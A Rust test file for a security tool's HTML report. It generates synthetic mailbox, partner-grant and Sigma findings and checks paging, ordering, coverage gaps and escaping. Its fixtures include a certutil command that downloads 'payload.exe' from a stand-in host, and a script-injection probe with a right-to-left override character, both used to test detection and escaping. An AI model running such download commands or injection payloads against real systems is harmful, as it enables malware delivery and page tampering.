//! The HTML report at scale: many findings give a bounded page (the most serious in
//! full, the rest as paged rows), worst open findings first, the charts and pivots.
//!
//! `TRUSTPATH_HTML_FINDINGS=100000 cargo test -p trustpath-assurance --test html_scale
//! -- --nocapture` writes `target/tmp/trustpath-report-<n>.html` and prints how long the
//! render took (to screenshot it with headless Chromium by hand); the default is 20,000.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use jiff::{SignedDuration, Timestamp};
use std::path::PathBuf;
use std::time::Instant;
use trustpath_assurance::html::{self, DETAIL_LIMIT, HtmlReport, PAGE_SIZE};
use trustpath_event::{Event, FileSummary, Format, Origin, RunSummary, SourceKind, TimeRange};
use trustpath_report::{
    Attack, Entities, Evidence, FieldValue, Finding, FindingKind, Level, MatchedField, RuleRef,
    Severity, Window,
};

const START: &str = "2025-03-01T00:00:00Z";

fn start() -> Timestamp {
    START.parse().unwrap()
}

/// A deterministic mix of findings over 30 days: chains on mailboxes, grants, host
/// Sigma hits; some authorised, some leads; a quiet stretch on days 12-14.
fn finding(i: u64) -> Finding {
    let x = i.wrapping_mul(2_654_435_761) % 1_000_003;
    let mut day = (x % 30) as i64;
    if (12..15).contains(&day) {
        day += 3;
    }
    let time = start() + SignedDuration::from_secs(day * 86_400 + (x % 86_400) as i64);
    let kind = x % 10;
    let (analytic, title, level, technique) = match kind {
        0 => (
            Some("AN1350"),
            "Partner trust path to mailbox access",
            Level::Critical,
            "T1199",
        ),
        1 | 2 => (
            Some("AN1051"),
            "Mailbox permission granted",
            Level::Medium,
            "T1098.002",
        ),
        3 => (
            Some("AN1347"),
            "Admin role given to a partner",
            Level::High,
            "T1098.003",
        ),
        _ => (None, "Suspicious Certutil Download", Level::Low, "T1105"),
    };
    let tenant = format!("tenant-{}.onmicrosoft.com", x % 4);
    let host = (kind >= 4).then(|| format!("WS-{:03}", x % 40));
    let mailbox = (kind < 4).then(|| format!("user{}@contoso.com", x % 300));
    let authorized = (kind == 1 && x.is_multiple_of(3)).then(|| format!("CHG{:05}", x % 90_000));
    let mut evidence = vec![Evidence {
        step: if kind >= 4 {
            "match".into()
        } else {
            "1".into()
        },
        time,
        origin: Origin::file("logs/ual.jsonl").with_line(1 + x % 50_000),
        source: if kind >= 4 {
            "windows/evtx".into()
        } else {
            "m365_audit/ual_json".into()
        },
        summary: "Add-MailboxPermission actor=tech@fabrikam.example".into(),
        record_id: Some(format!("rec-{i}")),
        ip: Some(format!("198.51.100.{}", x % 250)),
    }];
    if kind == 0 {
        for k in 0..12 {
            evidence.push(Evidence {
                step: "3".into(),
                time: time + SignedDuration::from_mins(10 + k),
                origin: Origin::file("logs/ual.jsonl").with_line(2 + k as u64),
                source: "m365_audit/ual_json".into(),
                summary: "MailItemsAccessed ip=203.0.113.9".into(),
                record_id: None,
                ip: Some("203.0.113.9".into()),
            });
        }
    }
    let end = evidence.last().map_or(time, |e| e.time);
    let sigma = kind >= 4;
    Finding {
        id: format!("{:032x}", x as u128 * 7_919 + i as u128),
        time,
        analytic: analytic.map(str::to_owned),
        title: title.to_owned(),
        kind: if kind == 2 {
            FindingKind::HuntingLead
        } else {
            FindingKind::Alert
        },
        attack: Attack {
            technique: vec![technique.to_owned()],
            ..Attack::default()
        },
        rule: RuleRef {
            id: format!("rule-{kind}"),
            title: title.to_owned(),
            level: level.as_str().to_owned(),
        },
        severity: Severity::base(level, "base level"),
        authorized,
        entities: Entities {
            tenant: Some(tenant),
            partner: (kind < 4).then(|| format!("Partner {}", x % 5)),
            actor: Some(format!("actor{}@fabrikam.example", x % 25)),
            mailbox,
            host,
            ips: vec![format!("198.51.100.{}", x % 250)],
            ..Entities::default()
        },
        window: Window { start: time, end },
        evidence,
        rollback: if kind == 1 {
            vec!["Remove-MailboxPermission -Identity 'user1@contoso.com' -User 'tech@fabrikam.example' -AccessRights FullAccess,SendAs,ReadPermission -InheritanceType All -Confirm:$false".into()]
        } else {
            Vec::new()
        },
        matched: if sigma {
            vec![MatchedField {
                selection: "selection".into(),
                field: "CommandLine".into(),
                value: "certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe".into(),
            }]
        } else {
            Vec::new()
        },
        fields: if sigma {
            vec![FieldValue {
                field: "ParentImage".into(),
                value: "C:\\Windows\\explorer.exe".into(),
            }]
        } else {
            Vec::new()
        },
    }
}

fn summary(n: u64) -> RunSummary {
    let mut file = FileSummary::new("logs/ual.jsonl");
    file.formats = vec!["ual_json".to_owned()];
    file.events = 250_000;
    file.by_source.insert(SourceKind::M365Audit, 200_000);
    file.by_source.insert(SourceKind::Windows, 50_000);
    file.time = TimeRange {
        first: Some(start()),
        last: Some(start() + SignedDuration::from_hours(30 * 24 - 1)),
    };
    RunSummary {
        files: vec![file],
        matched: n,
        findings: n,
        ..RunSummary::default()
    }
}

/// Coverage of 30 days where Windows logs stop for days 12-14 (a gap to see).
fn coverage() -> trustpath_assurance::CoverageReport {
    let catalog: Vec<_> = trustpath_analytics::catalog()
        .into_iter()
        .map(|(m, _)| m)
        .collect();
    let mut collector = trustpath_assurance::CoverageCollector::default();
    for hour in 0..30 * 24 {
        for (source, format) in [
            (SourceKind::M365Audit, Format::UalJson),
            (SourceKind::Windows, Format::Evtx),
        ] {
            let day = hour / 24;
            if source == SourceKind::Windows && (12..15).contains(&day) {
                continue;
            }
            let per_hour = 1 + (hour % 7) as usize;
            for _ in 0..per_hour {
                collector.observe(&Event {
                    time: start() + SignedDuration::from_hours(hour),
                    source,
                    format,
                    origin: Origin::file("x").with_line(1),
                    fields: Default::default(),
                    keys: Default::default(),
                });
            }
        }
    }
    collector.report(
        &catalog,
        &trustpath_context::Context::default(),
        &trustpath_assurance::CoverageOptions::default(),
    )
}

fn render(n: u64) -> (String, std::time::Duration) {
    let summary = summary(n);
    let coverage = coverage();
    let began = Instant::now();
    let mut report = HtmlReport::new();
    for i in 0..n {
        report.add(&finding(i));
    }
    let page = report.render(&summary, Some(&coverage));
    (page, began.elapsed())
}

fn save(n: u64, page: &str) -> PathBuf {
    let dir = PathBuf::from(env!("CARGO_TARGET_TMPDIR"));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(format!("trustpath-report-{n}.html"));
    std::fs::write(&path, page).unwrap();
    path
}

#[test]
fn large_runs_are_bounded_and_worst_first() {
    let n: u64 = std::env::var("TRUSTPATH_HTML_FINDINGS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(20_000);
    let (page, took) = render(n);
    let path = save(n, &page);
    println!(
        "{n} findings: {} bytes, rendered in {took:.2?}: {}",
        page.len(),
        path.display()
    );
    let cards = page.matches("<details class=\"finding\"").count();
    assert_eq!(cards, DETAIL_LIMIT.min(n as usize));
    // Every finding is listed: the first page in the table, the rest in pages.
    let rows = page.matches("<tr data-level=").count();
    assert_eq!(rows as u64, n);
    assert_eq!(
        page.matches("<template class=\"page\">").count(),
        (n as usize).div_ceil(PAGE_SIZE) - 1
    );
    // Bounded: a few hundred bytes per listed finding.
    assert!(
        page.len() as u64 <= 2_000_000 + n * 600,
        "{} bytes",
        page.len()
    );
    // The first card is the worst open finding: an open critical alert.
    let first = page.split("<details class=\"finding\"").nth(1).unwrap();
    assert!(
        first.starts_with(" data-level=\"critical\""),
        "{}",
        &first[..200]
    );
    assert!(first.contains("st-alert"));
    // Charts and pivots are there; the Windows gap is marked.
    assert!(page.contains("Findings over the period"));
    assert!(page.contains("Events per source per day"));
    assert!(page.contains("class=\"gap\""), "coverage gap drawn");
    assert!(page.contains("no windows events 2025-03-13"));
    for pivot in ["By tenant", "By partner", "By mailbox", "By actor"] {
        assert!(page.contains(pivot), "{pivot}");
    }
}

#[test]
fn small_runs_show_every_finding_in_full_and_sort_open_first() {
    let (page, _) = render(10);
    save(10, &page);
    assert_eq!(page.matches("<details class=\"finding\"").count(), 10);
    assert!(!page.contains("<template class=\"page\">"));
    let order: Vec<&str> = page
        .split("<details class=\"finding\" data-level=\"")
        .skip(1)
        .map(|s| s.split('"').next().unwrap())
        .collect();
    let rank = |l: &str| {
        ["critical", "high", "medium", "low", "informational"]
            .iter()
            .position(|x| *x == l)
            .unwrap()
    };
    // Open findings (all but leads/authorised) come first, each group worst first.
    let open: Vec<usize> = page
        .split("<details class=\"finding\" data-level=\"")
        .skip(1)
        .zip(&order)
        .filter(|(s, _)| s.contains("st-alert"))
        .map(|(_, l)| rank(l))
        .collect();
    assert!(open.windows(2).all(|w| w[0] <= w[1]), "{order:?}");
    let first_closed = page
        .split("<details class=\"finding\" data-level=\"")
        .skip(1)
        .position(|s| !s.contains("st-alert"));
    if let Some(p) = first_closed {
        assert!(p >= open.len(), "open alerts first: {order:?}");
    }
}

#[test]
fn hostile_matched_values_are_escaped() {
    let mut f = finding(4);
    f.matched = vec![MatchedField {
        selection: "selection".into(),
        field: "CommandLine".into(),
        value: "<script>alert(1)</script>\u{202E}".to_owned(),
    }];
    let page = html::render(&[f], &summary(1), None);
    assert!(page.contains("Why the rule fired"));
    assert!(!page.contains("<script>alert(1)"));
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;\\u{202E}"));
}
